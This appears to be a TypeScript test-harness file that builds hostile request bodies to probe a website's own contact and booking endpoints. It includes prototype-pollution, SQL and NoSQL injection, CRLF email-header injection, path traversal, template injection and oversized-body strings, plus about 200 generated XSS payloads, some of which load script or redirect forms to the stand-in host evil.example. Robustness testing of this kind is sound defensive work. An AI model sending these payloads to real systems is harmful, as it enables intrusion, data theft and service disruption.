// Bodies as attackers send them.
import { type Attack, post } from './server-strangers.ts'

/** A random item of a list. */
export type Pick = <T>(list: readonly T[]) => T
/** Makes one attack of its kind. */
export type Family = (pick: Pick) => Attack

/** Code that scripts would run, with a marker to look for in answers; most of it is from the OWASP cheat sheet. */
export const XSS: readonly string[] = xssStrings()

const FUNCTIONS = [
  '/api/contact',
  '/api/booking',
  '/api/log-visitor',
  '/api/processDocument',
  '/api/form-token',
  '/api/x',
]
const CONTACT = {
  name: 'Erika',
  email: 'erika@example.org',
  message: 'Guten Tag',
  source: 'x',
  metadata: { form_type: 'y' },
}
const JSON_BODIES: readonly string[] = [
  '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}}}',
  `${JSON.stringify(CONTACT).slice(0, -1)},"__proto__":{"toString":1}}`,
  `${JSON.stringify(CONTACT).slice(0, -1)},"metadata":{"__proto__":{"x":1},"form_type":"y"}}`,
  JSON.stringify({ ...CONTACT, name: { $gt: '' }, email: ['a@b.de'] }),
  JSON.stringify({ ...CONTACT, name: "'; DROP TABLE leads; --", message: '\u0000\uffff\u202e' }),
  JSON.stringify({ ...CONTACT, name: 'a\r\nBcc: victim@example.org', email: 'a@b.de\r\nBcc: c@d.de' }),
  JSON.stringify({ ...CONTACT, language: '../../x', source: '{{7*7}}#{7*7}' }),
  '['.repeat(30_000),
  '{"a":'.repeat(12_000),
  `${'['.repeat(30_000)}${']'.repeat(30_000)}`,
  `{${Array.from({ length: 5_000 }, (_, n) => `"k${n}":1`).join(',')}}`,
  '{"name":"\\ud800","email":"a@b.de","message":"\\udfff"}',
  `{"email":"${'a'.repeat(30_000)}@${'a.'.repeat(15_000)}"}`,
  '\ufeff{}',
  'null',
  'true',
  '1e999',
  '"x"',
  '[]',
  '{}',
  '',
  '{"a":NaN}',
  "{'a':1}",
  '{"a":1,}',
]
const FORM_BODIES: readonly string[] = [
  '__proto__=1&__proto__.x=1&constructor.prototype.x=1',
  'metadata=1&metadata.form_type=2&metadata.__proto__=3&metadata.__proto__.x=4',
  'a.b.c.d=1&.=1&..=1&=&&&',
  'name[]=1&name[a]=2&name=3&name=4',
  '%=%&%zz=%00&a=%ff%fe',
  'x=1&'.repeat(5_000),
  'name=%0d%0aX-Injected:%201',
]
const TYPES = [
  'application/json',
  'application/x-www-form-urlencoded',
  'APPLICATION/JSON ; charset="utf-16"',
  'multipart/form-data; boundary=x',
  'text/xml',
  'text/plain',
  '',
  'application/json, text/html',
  'application/json\t;;;',
]

export const oddBody: Family = (pick) => {
  const type = pick(TYPES)
  const body = pick(pick([JSON_BODIES, FORM_BODIES]))
  return post('an odd body', pick(FUNCTIONS), { type: pick([type, 'application/json']), body })
}

const FIELDS = [
  'name',
  'email',
  'phone',
  'subject',
  'message',
  'source',
  'language',
  'website',
  'metadata.page',
  'company',
]

export const xssForm: Family = (pick) => {
  const fields = new URLSearchParams({
    name: 'a',
    email: 'a@b.de',
    message: 'b',
    source: 'x',
    'metadata.form_type': 'y',
  })
  for (const field of [pick(FIELDS), pick(FIELDS), pick(FIELDS)]) fields.set(field, pick(XSS))
  const type = 'application/x-www-form-urlencoded'
  return post('markup in a form', pick(['/api/contact', '/api/contact', '/api/booking']), {
    type,
    body: String(fields),
  })
}

export const xssJson: Family = (pick) => {
  const body = JSON.stringify({ ...CONTACT, [pick(FIELDS)]: pick(XSS), [pick(XSS)]: 1 })
  return post('markup in JSON', pick(FUNCTIONS), { type: 'application/json', body })
}

export const truncated: Family = (pick) => {
  const body = JSON.stringify(CONTACT)
  const whole = post('', pick(FUNCTIONS), { type: pick(TYPES), body }).bytes
  return { name: 'a truncated request', bytes: whole.subarray(0, whole.length - pick([1, 5, 30, 120])), leaves: true }
}

/** 200 strings: every way to break out, with every way to run something. */
function xssStrings(): string[] {
  const breaks = [
    '',
    '"',
    "'",
    '">',
    "'>",
    '</textarea>',
    '</title>',
    '</script>',
    '-->',
    '`',
    '\\"',
    '\u2028',
    '&quot;>',
  ]
  const runs = [
    '<script>zXq9</script>',
    '<img src=x onerror=zXq9>',
    '<svg/onload=zXq9>',
    '<ScRiPt/src=//evil.example/zXq9></sCrIpT>',
    '<iframe srcdoc="<script>zXq9</script>">',
    ' onfocus=zXq9 autofocus x=',
    '<a href=javascript:zXq9>x</a>',
    '<style>@import"//evil.example/zXq9"</style>',
    '<form action=//evil.example/zXq9><input type=submit>',
    '<base href=//evil.example/zXq9>',
    '<meta http-equiv=refresh content="0;url=javascript:zXq9">',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=zXq9>',
    '<details open ontoggle=zXq9>',
    '<input value=zXq9 onfocus=zXq9 autofocus>',
    '\u003cscript\u003ezXq9\u003c/script\u003e',
    '{{constructor.constructor("zXq9")()}}',
  ]
  return breaks.flatMap((end) => runs.map((run) => end + run)).slice(0, 200)
}
